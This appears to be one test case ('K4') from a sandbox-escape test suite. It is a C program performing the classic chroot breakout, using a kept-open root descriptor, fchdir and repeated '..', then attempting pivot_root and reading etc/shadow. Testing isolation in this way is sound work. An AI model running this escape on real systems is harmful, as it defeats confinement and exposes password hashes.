/* K4: the classic: a directory is kept open, chroot below it, then a thousand times "..". */
#include "attack.h"

int main(void) {
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("cell", 0777);
    TRY("chroot", chroot("cell"));
    TRY("fchdir", fchdir(outside));
    for (int i = 0; i < 1000; i++) {
        (void)!chdir("..");
    }
    TRY("chroot_back", chroot("."));
    TRY("pivot_root", syscall(SYS_pivot_root, ".", "."));
    TRY("shadow", open("etc/shadow", O_RDONLY));
    return 0;
}
